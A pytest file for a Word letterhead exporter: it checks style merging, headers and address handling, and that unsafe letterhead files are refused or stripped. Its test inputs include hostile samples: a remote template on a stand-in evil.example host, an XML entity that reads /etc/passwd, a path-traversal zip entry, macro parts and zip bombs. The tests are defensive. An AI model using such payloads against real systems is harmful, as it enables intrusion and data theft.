"""A group's own paper: what is taken from it, what is added, and what is refused."""

import io
import zipfile
from dataclasses import replace

import docx
import pytest
from papers import changed, letterhead, picture
from word_reading import Looks, W, opened, pairs, parts, tree, words
from word_rules import faults

from outreach.errors import FileFault, InputError, RefusedFile
from outreach.exporters import Output
from outreach.exporters.base_document import build
from outreach.exporters.docx import DocxExporter
from outreach.model import Block
from outreach.word_guard import MAX_PARTS, MAX_UNPACKED


@pytest.fixture
def on(base, tmp_path):
    """Builds the exporter on a letterhead of these bytes."""

    def build_on(content: bytes) -> DocxExporter:
        path = tmp_path / "paper.docx"
        path.write_bytes(content)
        return DocxExporter(base, Output(letterhead=path))

    return build_on


def test_logo_header_footer_and_page_are_the_groups_and_its_sample_text_is_gone(on, letter):
    content = on(letterhead()).export(letter)
    (section,) = opened(content).sections
    assert section.first_page_header.paragraphs[1].text == "Grand Avenue Family Practice"
    assert section.first_page_footer.paragraphs[0].text == "A member of the Parity Coalition"
    assert (section.left_margin.inches, section.page_width.inches) == (1.25, 8.5)
    assert picture() in parts(content).values()
    everything = b"".join(parts(content).values())
    for told in (b"client J.S.", b"Secret remark", b"designer", b"Pat"):
        assert told not in everything
    assert faults(content) == []


def test_its_styles_win_by_name_and_missing_ones_are_added(on, letter):
    content = on(letterhead()).export(letter)
    assert [style for style, _ in pairs(content)][:2] == ["Return Address", "Date"]
    styles = opened(content).styles
    assert styles["Closing"].paragraph_format.left_indent.inches == 3
    assert styles["Body Text"].font.size.pt == 11.5
    assert styles["Reference Line"].font.bold
    assert {"Marked Place", "annotation text", "List Number"} <= {style.name for style in styles}


def test_ids_of_added_styles_and_lists_do_not_collide(on, letter):
    theirs = letterhead()
    styles = parts(theirs)["word/styles.xml"].decode()
    # A style of theirs that has the id, but not the name, of one of ours.
    taken = styles.replace('w:styleId="Closing"', 'w:styleId="ReturnAddress"')
    assert taken != styles
    blocks = (
        *letter.blocks,
        Block("numbered_item", "one"),
        Block("body", "x"),
        Block("numbered_item", "again"),
    )
    content = on(changed(theirs, {"word/styles.xml": taken.encode()})).export(replace(letter, blocks=blocks))
    assert faults(content) == []
    assert pairs(content)[0][0] == "Return Address"
    assert dict(pairs(content))["Closing"] == "Sincerely,"
    ids = [each.style.style_id for each in opened(content).paragraphs]
    assert ids[0] == "ReturnAddress2"


def test_lists_are_lists_on_a_letterhead_too(on, letter):
    content = on(letterhead()).export(replace(letter, blocks=(*letter.blocks, Block("numbered_item", "one"))))
    numbers = {each.get(f"{W}numId") for each in tree(content, "word/numbering.xml").iter(f"{W}num")}
    for name in ("List Bullet", "List Number"):
        (first, *_) = [each for each in opened(content).paragraphs if each.style.name == name]
        used = first._p.pPr.numPr if first._p.pPr.numPr is not None else first.style.element.pPr.numPr
        assert str(used.numId.val) in numbers


def test_there_is_room_to_sign_even_where_its_styles_leave_none(on, letter):
    (close,) = [
        each for each in opened(on(letterhead()).export(letter)).paragraphs if each.text == "Sincerely,"
    ]
    assert close.paragraph_format.space_after.pt == 42


def test_what_the_letterhead_prints_of_the_address_is_not_printed_twice_and_nothing_else_is_lost(on, letter):
    exporter = on(letterhead())
    address = pairs(exporter.export(letter))[0][1]
    assert address == "Dana Ruiz, LMFT\ndana.ruiz@example.org | 651-555-0142"
    assert exporter.notes == ("Lines of the return address that it prints already are not printed again.",)
    home = Block("return_address", "Dana Ruiz, LMFT\n12 Oak Street\nSt. Paul, MN 55104")
    content = exporter.export(replace(letter, blocks=(home, *letter.blocks[1:])))
    assert pairs(content)[0][1] == home.text


def test_page_two_has_our_header_where_the_letterhead_has_none(on, letter):
    (section,) = opened(on(letterhead()).export(letter)).sections
    assert section.different_first_page_header_footer
    assert section.header.paragraphs[0].text == "The Honorable Tina Smith · November 23, 2026 · Page "


def test_a_header_for_every_page_stays_one_and_is_told(on, letter):
    exporter = on(letterhead(title_page=False))
    (section,) = opened(exporter.export(letter)).sections
    assert not section.different_first_page_header_footer
    assert section.header.paragraphs[1].text == "Grand Avenue Family Practice"
    assert any("Different First Page" in note for note in exporter.notes)


def test_a_document_without_any_header_gets_ours(on, letter):
    document = docx.Document()
    made = io.BytesIO()
    document.save(made)
    content = on(made.getvalue()).export(letter)
    (section,) = opened(content).sections
    assert section.different_first_page_header_footer
    assert section.header.paragraphs[0].text.startswith("The Honorable Tina Smith")
    assert faults(content) == []


def test_our_own_base_document_is_a_letterhead_too(on, word, letter):
    content = on(build()).export(letter)
    assert pairs(content) == pairs(word.export(letter))
    assert faults(content) == []


def test_the_same_draft_on_the_same_paper_is_the_same_bytes(on, letter):
    assert on(letterhead()).export(letter) == on(letterhead()).export(letter)


def test_a_logo_without_alternative_text_is_told(on):
    assert any("alternative text" in note for note in on(letterhead(alternative_text="")).notes)


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
SETTINGS = (
    f'<w:settings {W_NS} {R_NS}><w:attachedTemplate r:id="rId1"/><w:mailMerge><w:query w:val="SELECT"/>'
    '</w:mailMerge><w:documentProtection w:edit="readOnly"/><w:trackRevisions/>'
    '<w:defaultTabStop w:val="720"/>'
    '<w:rsids><w:rsidRoot w:val="00AB"/></w:rsids></w:settings>'
).encode()
SETTINGS_RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def test_a_remote_template_a_mail_merge_and_protection_are_left_out_and_told(on, letter):
    paper = changed(
        letterhead(), {"word/settings.xml": SETTINGS, "word/_rels/settings.xml.rels": SETTINGS_RELS}
    )
    exporter = on(paper)
    content = exporter.export(letter)
    assert faults(content) == []
    everything = b"".join(parts(content).values())
    for gone in (b"evil.example", b"SELECT", b"documentProtection", b"trackRevisions", b"rsid"):
        assert gone not in parts(content)["word/settings.xml"] + everything.replace(b"w:rsid", b"")
    assert b"defaultTabStop" in parts(content)["word/settings.xml"]
    assert [note.split(" was ")[0] for note in exporter.notes[-4:-1]] == [
        "The link to its Word template",
        "Its mail merge with a data source",
        "Its protection against editing",
    ]


HEADER_RELS = "word/_rels/header1.xml.rels"


def _linked(
    kind: str, mode: str = ' TargetMode="External"', target: str = "http://evil.example/logo.png"
) -> bytes:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{office}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def _zip(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in parts.items():
            packed.writestr(name, data)
    return made.getvalue()


def _encrypted() -> bytes:
    content = bytearray(_zip({"[Content_Types].xml": b"<Types/>"}))
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        content[content.index(mark) + at] |= 1
    return bytes(content)


MACRO_TYPES = parts(letterhead())["[Content_Types].xml"].replace(
    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    b"application/vnd.ms-word.document.macroEnabled.main+xml",
)
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 and more", "old format of Word 97"),
        (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "locked with a password"),
        (b"%PDF-1.7", "a PDF, not a Word document"),
        (b"", "not a Word document"),
        (letterhead()[:4000], "is damaged"),
        (_encrypted(), "locked with a password"),
        (_zip({"word/document.xml": b"\0" * (MAX_UNPACKED + 1)}), "unpacks to far more than a letter holds"),
        (_zip({f"{n}.xml": b"" for n in range(MAX_PARTS + 1)}), "unpacks to far more than a letter holds"),
        (_zip({"../../evil.xml": b""}), "names that no Word document has"),
        (_zip({"word/document.xml": b""}), r"has no \[Content_Types\]\.xml"),
        (changed(letterhead(), {"word/vbaProject.bin": b"x"}), "carries macros"),
        (changed(letterhead(), {"[Content_Types].xml": MACRO_TYPES}), "carries macros"),
        (changed(letterhead(), {"word/header1.xml": DOCTYPE}), "declares entities"),
        (changed(letterhead(), {"word/header1.xml": b"<w:hdr"}), "is damaged"),
        (changed(letterhead(), {"word/styles.xml": b"<w:styles"}), "is damaged"),
        (changed(letterhead(), {"word/_rels/document.xml.rels": b"<"}), "is damaged"),
        (changed(letterhead(), {"word/document.xml": b"<strict/>"}), "not in the usual form"),
        (
            changed(letterhead(), {HEADER_RELS: _linked("image")}),
            "its image in word/header1.xml is not",
        ),
        (changed(letterhead(), {HEADER_RELS: _linked("frame")}), "its frame in word/header1.xml"),
        (
            changed(letterhead(), {HEADER_RELS: _linked("oleObject", "", "media/image1.png")}),
            "holds something that is not text or a picture",
        ),
    ],
)
def test_what_cannot_be_trusted_is_refused_with_the_reason_and_a_way_out(on, content, reason):
    with pytest.raises(RefusedFile, match=reason) as told:
        on(content)
    assert "paper.docx" in told.value.message
    assert told.value.hint


def test_a_letterhead_that_is_not_there_is_told(base, tmp_path):
    with pytest.raises(FileFault, match=r"gone\.docx cannot be read"):
        DocxExporter(base, Output(letterhead=tmp_path / "gone.docx"))


def test_a_logo_in_the_text_instead_of_the_header_is_told(on):
    document = docx.Document()
    document.add_picture(io.BytesIO(picture()))
    made = io.BytesIO()
    document.save(made)
    exporter = on(made.getvalue())
    assert any("only headers and footers are taken" in note for note in exporter.notes)


def test_a_link_in_a_header_stays_a_link(on, letter):
    header = parts(letterhead())["word/header1.xml"].decode()
    start, end = header.index("<w:drawing"), header.index("</w:drawing>") + len("</w:drawing>")
    bare = header[:start] + "<w:t>us</w:t>" + header[end:]
    linked = bare.replace("<w:r>", '<w:hyperlink r:id="rId1"><w:r>', 1).replace(
        "</w:r>", "</w:r></w:hyperlink>", 1
    )
    paper = changed(
        letterhead(),
        {
            "word/header1.xml": linked.encode(),
            HEADER_RELS: _linked("hyperlink", target="https://example.org"),
        },
    )
    content = on(paper).export(letter)
    assert b"https://example.org" in parts(content)[HEADER_RELS]
    assert faults(content) == []


def test_a_window_and_a_letterhead_do_not_go_together(base, tmp_path):
    with pytest.raises(InputError, match="do not go together"):
        DocxExporter(base, Output(letterhead=tmp_path / "x.docx", window=True))


def test_the_words_of_a_letter_are_the_same_on_every_paper(on, word, letter):
    blocks = letter.blocks[1:]
    assert words(on(letterhead()).export(replace(letter, blocks=blocks))) == words(
        word.export(replace(letter, blocks=blocks))
    )


def test_styles_of_a_letterhead_that_are_not_ours_stay(on, letter):
    before = set(Looks(letterhead()).names)
    assert len(before) > 100
    assert before <= set(Looks(on(letterhead()).export(letter)).names)
